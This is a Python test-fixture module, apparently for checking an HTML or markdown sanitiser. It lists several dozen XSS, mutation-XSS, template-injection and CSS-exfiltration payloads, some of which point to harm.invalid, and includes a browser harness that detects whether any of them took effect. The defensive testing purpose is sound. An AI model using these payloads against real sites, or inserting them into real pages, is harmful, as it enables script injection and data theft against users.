"""Text that would run, load or rewrite something if a page took it for its own, and how to see whether it did.

Whatever runs sets ``window.injected``, opens a dialog or asks for an address on ``harm.invalid``.
"""

from pathlib import Path
from urllib.parse import urlparse

__all__ = ["INJECTIONS", "effects"]

_IMG = "<img src=x onerror=injected=1>"

INJECTIONS = {
    "script": "<script>injected=1</script>",
    "script from afar": '<script src="https://harm.invalid/a.js"></script>',
    "script of a module": "<script type=module>window.injected=1</script>",
    "script in capitals, broken": "<SCRIPT\n>injected=1</SCRIPT\t>",
    "script in a script": "<scr<script>ipt>injected=1</scr</script>ipt>",
    "image that fails": _IMG,
    "image, slashes for blanks": '<img/src="x"/onerror="injected=1">',
    "image, backquotes": "<img src=`x` onerror=injected=1>",
    "image, a script tag as its attribute": '<IMG """><SCRIPT>alert("mark")</SCRIPT>">',
    "image from afar": '<img src="https://harm.invalid/a.png">',
    "image, source set": '<img srcset="https://harm.invalid/b.png 1x">',
    "svg that loads": "<svg onload=injected=1>",
    "svg with a script": "<svg><script>injected=1</script></svg>",
    "svg animation": '<svg><animate onbegin="injected=1" attributeName=x dur=1s></svg>',
    "svg with a picture": '<svg><image href="https://harm.invalid/a.gif"/></svg>',
    "svg, foreign object": f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
    "body that loads": "<body onload=injected=1>",
    "details that open": "<details open ontoggle=injected=1>x</details>",
    "field that takes the focus": "<input autofocus onfocus=injected=1>",
    "tab stop that takes the focus": "<a tabindex=0 autofocus onfocus=injected=1>x</a>",
    "video that fails": "<video><source onerror=injected=1></video>",
    "audio from afar": '<audio src="https://harm.invalid/a.mp3" autoplay></audio>',
    "animation that starts": "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=injected=1>x</p>",
    "marquee": "<marquee onstart=injected=1>x</marquee>",
    "frame": '<iframe src="javascript:parent.injected=1"></iframe>',
    "frame with its document": '<iframe srcdoc="<script>parent.injected=1</script>"></iframe>',
    "object": '<object data="https://harm.invalid/a.swf"></object>',
    "embedded": '<embed src="https://harm.invalid/a.pdf">',
    "link to a script": '<a href="javascript:injected=1">press</a>',
    "link, tab inside": '<a href="java\tscript:injected=1">press</a>',
    "link, in references": '<a href="&#106;avascript&colon;injected=1">press</a>',
    "link, leading control": '<a href="\x01javascript:injected=1">press</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">press</a>',
    "base": '<base href="https://harm.invalid/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://harm.invalid/">',
    "style sheet from afar": '<link rel="stylesheet" href="https://harm.invalid/a.css">',
    "fetched ahead": '<link rel="prefetch" href="https://harm.invalid/next">',
    "style that imports": "<style>@import 'https://harm.invalid/b.css';</style>",
    "style that tells secrets": "<style>main{background:url(https://harm.invalid/?seen)}</style>",
    "style attribute": '<p style="background:url(https://harm.invalid/c.png)">x</p>',
    "style over everything": '<div style="position:fixed;inset:0;background:red">x</div>',
    "form": '<form action="https://harm.invalid/"><button>press</button></form>',
    "button with an address": '<button formaction="javascript:injected=1" form=f>press</button>',
    "named like the document's own": "<form name=body><input name=children></form>",
    "template": "{{ 7 * 7 }}{% for x in y %}{{ config }}{% endfor %}{{ ''.__class__.__mro__ }}",
    "template, raw": "{% raw %}{% endraw %}{# #}${7*7}<%= 7 * 7 %>",
    "out of the title": f"</title>{_IMG}",
    "out of the style": "</style><script>injected=1</script>",
    "out of code": f"</code></pre>{_IMG}",
    "out of an area": f"</textarea>{_IMG}",
    "out of an attribute": f'">{_IMG}',
    "out of an attribute, single": "' onmouseover='injected=1' x='",
    "out of a comment": f"-->{_IMG}<!--",
    "comment without an end": "<!-- ",
    "section without an end": "<![CDATA[ <script>injected=1</script>",
    "instruction": "<?xml-stylesheet href='https://harm.invalid/d.css'?>",
    "tag without an end": "<img src=x onerror=injected=1 ",
    "tags without order": "<b><table><tr></b><td></i></table></p></div></section></main>",
    "escaped twice": "&lt;img src=x onerror=injected=1&gt; &#60;script&#62;injected=1&#60;/script&#62;",
    "wide and broken characters": "＜script＞injected=1＜/script＞ <\x00script>injected=1</script> \u202e\u2028\ufeff",
    "colours of a terminal": "\x1b[31m<script>injected=1</script>\x1b[0m\x1b]8;;javascript:injected=1\x07press",
    # which change their meaning when a cleaned page is read again
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=injected=1>">',
    "mutation, mathematics": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=injected=1&gt;">',
    "mutation, drawing": '<svg></p><style><a id="</style><img src=1 onerror=injected=1>">',
    "mutation, forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=injected=1>",
    "mutation, annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=injected=1></style>'
    "</annotation-xml></math>",
    "mutation, template": "<template><style></template><img src=x onerror=injected=1></style>",
    # markdown and TeX
    "markdown link": "[press](javascript:injected=1) [press](<java\nscript:injected=1>) [press](vbscript:injected)",
    "markdown link, in references": "[press](&#106;avascript:injected=1) [press](javascript&colon;injected=1)",
    "markdown link to data": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown link by name": "[press][there]\n\n[there]: javascript:injected=1 'title'",
    "markdown link in brackets": "<javascript:injected=1> <https://harm.invalid/?a=\"onclick='injected=1'>",
    "markdown image": "![x](https://harm.invalid/e.png) ![x](//harm.invalid/f.png) ![x](file:///etc/hostname)",
    "markdown image of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "markdown image with handlers": '![" onerror="injected=1](x"onerror="injected=1 "t\\" onerror=\\"injected=1")',
    "markdown table": f"|a|b|\n|-|-|\n|{_IMG}|[press](javascript:injected=1)|",
    "formula with a link": r"$\href{javascript:injected=1}{press}$ $\url{javascript:injected=1}$",
    "formula with text": r"$\text{<img src=x onerror=injected=1>}$ $$\mbox{</math><script>injected=1</script>}$$",
    "formula with a style": r"$\style{background:url(https://harm.invalid/g.png)}{x}$ $\class{note}{x}$ $\cssId{x}{y}$",
    "formula with a colour": r"""$\color{red" onclick="injected=1}{x}$ $\colorbox{url(https://harm.invalid/h)}{x}$""",
    "formula that grows": r"$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\newcommand{\d}{\a\a}\a$",
    "formula without an end": r"$\frac{\left( \begin{matrix} & \\ $ $$ {{{{{{ $$",
}

# the first style sheet is the page's own
_LIVE = """script, iframe, frame, object, embed, form, base, link, meta[http-equiv=refresh i], body style,
    style ~ style, input, button, textarea, template, marquee, video, audio"""
_FOREIGN = r"""() => {
    const pictures = /^data:image\/(png|jpeg|svg\+xml);base64,/i;
    const addresses = ["href", "src", "xlink:href", "srcset", "action", "formaction", "data", "poster", "background"];
    const foreign = ({ name, value, ownerElement }) =>
        name.startsWith("on")
        || (name === "style" && /url|import|position|animation|background/i.test(value))
        || (addresses.includes(name) && !pictures.test(value)
            && !(ownerElement.localName === "a" && /^(https?:|mailto:|#)/i.test(value)));
    const attributes = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes]);
    return attributes.filter(foreign).map((a) => `<${a.ownerElement.localName} ${a.name}=${a.value}>`);
}"""


def effects(browser, page: str, folder: Path) -> list[str]:
    """What happened in a `browser`, or a context of one, when the HTML text `page` was opened.

    That is: dialogs, requests, errors, changed variables, and elements and attributes that only wait for their chance.
    """
    file = folder / "opened.html"
    file.write_text(page, "utf-8", "replace")
    opened, seen = browser.new_page(), []
    opened.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    opened.route(lambda url: _leaves(url, file), lambda route: (seen.append(route.request.url), route.abort()))
    opened.on("pageerror", lambda error: seen.append(f"error {error}"))
    try:
        opened.goto(file.as_uri())
        opened.mouse.move(200, 200)
        opened.wait_for_timeout(50)
        seen += ["window.injected"] if opened.evaluate("'injected' in window") else []
        seen += opened.eval_on_selector_all(_LIVE, "(all) => all.map((e) => `<${e.localName}>`)")
        seen += opened.evaluate(_FOREIGN)
    finally:
        opened.close()
    return seen


def _leaves(address: str, file: Path) -> bool:
    return urlparse(address).scheme != "data" and address != file.as_uri()
